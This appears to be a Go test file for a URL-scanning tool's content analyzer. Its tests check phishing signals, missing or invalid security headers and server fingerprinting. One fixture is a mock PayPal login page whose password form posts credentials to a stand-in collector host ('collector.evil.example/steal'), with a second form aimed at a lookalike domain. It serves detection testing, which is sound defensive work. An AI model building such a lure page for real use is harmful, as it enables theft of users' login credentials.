package content

import (
	"net/http"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/theopenlane/urlscout/internal/probe"
)

const phishPage = `<!doctype html>
<html>
<head>
  <title>  PayPal   - Log in to your account </title>
  <script>var brand = "stripe";</script>
</head>
<body>
  <h1>Welcome to PayPal</h1>
  <form id="login" method="post" action="https://collector.evil.example/steal">
    <input type="text" name="email">
    <input type="password" name="pass">
  </form>
  <form action="/search">
    <input type="text" name="q">
  </form>
  <form method="POST" action="http://paypa1-login.xyz/secure">
    <input type="hidden" name="token">
  </form>
</body>
</html>`

var testBrands = map[string][]string{
	"paypal": {"paypal.com"},
	"stripe": {"stripe.com"},
	"apple":  {"apple.com"},
}

func fetched(finalURL, body string, headers http.Header, https bool) *probe.Result {
	if headers == nil {
		headers = http.Header{}
	}

	return &probe.Result{HTTP: &probe.HTTPResult{
		FinalURL:      finalURL,
		StatusCode:    http.StatusOK,
		Headers:       headers,
		Body:          []byte(body),
		UsedHTTPS:     https,
		RedirectChain: []probe.Hop{{URL: finalURL, Status: http.StatusOK}},
	}}
}

func TestAnalyzeUnfetched(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting())

	assert.Equal(t, Signals{}, a.Analyze(&probe.Result{}, testBrands))
	assert.Equal(t, Signals{}, a.Analyze(nil, testBrands))
}

func TestAnalyzeEmptyBodyKeepsHeaderSignals(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting())

	headers := http.Header{}
	headers.Set("Server", "x")
	headers.Set("X-Frame-Options", "DENY")

	sig := a.Analyze(fetched("https://paypal-secure.example.com/", "", headers, true), testBrands)

	require.True(t, sig.Fetched)
	assert.Equal(t, "https://paypal-secure.example.com/", sig.FinalURL)
	assert.Equal(t, []string{"X-Frame-Options"}, sig.PresentHeaders)
	assert.Equal(t, []string{"Strict-Transport-Security", "X-Content-Type-Options", "Content-Security-Policy", "Referrer-Policy"}, sig.MissingHeaders)
	assert.Empty(t, sig.Title)
	assert.Empty(t, sig.Forms)
	assert.False(t, sig.HasLoginForm)
	assert.Equal(t, []BrandMention{{Brand: "paypal", Where: WhereHost}}, sig.BrandMentions)
}

func TestAnalyzePhishingPage(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting())

	sig := a.Analyze(fetched("https://paypal.account-verify.xyz/login", phishPage, nil, true), testBrands)

	require.True(t, sig.Fetched)
	assert.Equal(t, "PayPal - Log in to your account", sig.Title)
	assert.True(t, sig.HasPasswordField)
	assert.True(t, sig.HasLoginForm)
	require.Len(t, sig.Forms, 3)

	assert.Equal(t, Form{
		Action:      "https://collector.evil.example/steal",
		Method:      "POST",
		External:    true,
		HasPassword: true,
	}, sig.Forms[0])

	assert.Equal(t, "https://paypal.account-verify.xyz/search", sig.Forms[1].Action)
	assert.Equal(t, "GET", sig.Forms[1].Method)
	assert.False(t, sig.Forms[1].External)

	assert.True(t, sig.Forms[2].Insecure)
	assert.True(t, sig.Forms[2].External)

	assert.Equal(t, []BrandMention{
		{Brand: "paypal", Where: WhereHost},
		{Brand: "paypal", Where: WhereText},
		{Brand: "paypal", Where: WhereTitle},
	}, sig.BrandMentions, "script contents are not visible text")

	assert.Len(t, sig.Mentions(WhereTitle), 1)
	assert.Len(t, sig.RedirectChain, 1)
}

func TestAnalyzeSecurityHeaders(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting())

	headers := http.Header{}
	headers.Set("Strict-Transport-Security", "max-age=31536000; includeSubDomains; preload")
	headers.Set("X-Frame-Options", "DENY")
	headers.Set("X-Content-Type-Options", "nosniff")

	sig := a.Analyze(fetched("https://example.com/", "<html><title>Example</title></html>", headers, true), nil)

	assert.Equal(t, []string{"Strict-Transport-Security", "X-Frame-Options", "X-Content-Type-Options"}, sig.PresentHeaders)
	assert.Equal(t, []string{"Content-Security-Policy", "Referrer-Policy"}, sig.MissingHeaders)
	assert.Empty(t, sig.HSTSErrors)
}

func TestAnalyzeHSTSOnlyExpectedOverHTTPS(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting(), WithRequiredHeaders([]string{"strict-transport-security", "x-frame-options"}))

	sig := a.Analyze(fetched("http://example.com/", "<p>hi</p>", nil, false), nil)

	assert.Equal(t, []string{"X-Frame-Options"}, sig.MissingHeaders)
}

func TestAnalyzeInvalidHSTSCountsAsMissing(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting())

	headers := http.Header{}
	headers.Set("Strict-Transport-Security", "includeSubDomains")

	sig := a.Analyze(fetched("https://example.com/", "<p>hi</p>", headers, true), nil)

	assert.NotEmpty(t, sig.HSTSErrors)
	assert.Contains(t, sig.MissingHeaders, "Strict-Transport-Security")
	assert.NotContains(t, sig.PresentHeaders, "Strict-Transport-Security")
}

func TestAnalyzeLoginHintWithoutPassword(t *testing.T) {
	a := NewAnalyzer(WithoutFingerprinting())

	sig := a.Analyze(fetched("https://example.com/", `<form action="/signin"><input name="user"></form>`, nil, true), nil)

	assert.False(t, sig.HasPasswordField)
	assert.True(t, sig.HasLoginForm)
}

func TestAnalyzeTechnologies(t *testing.T) {
	a := NewAnalyzer()

	headers := http.Header{}
	headers.Set("Server", "nginx")

	sig := a.Analyze(fetched("https://example.com/", "<html><body>ok</body></html>", headers, true), nil)

	assert.Contains(t, sig.Technologies, "Nginx")
}
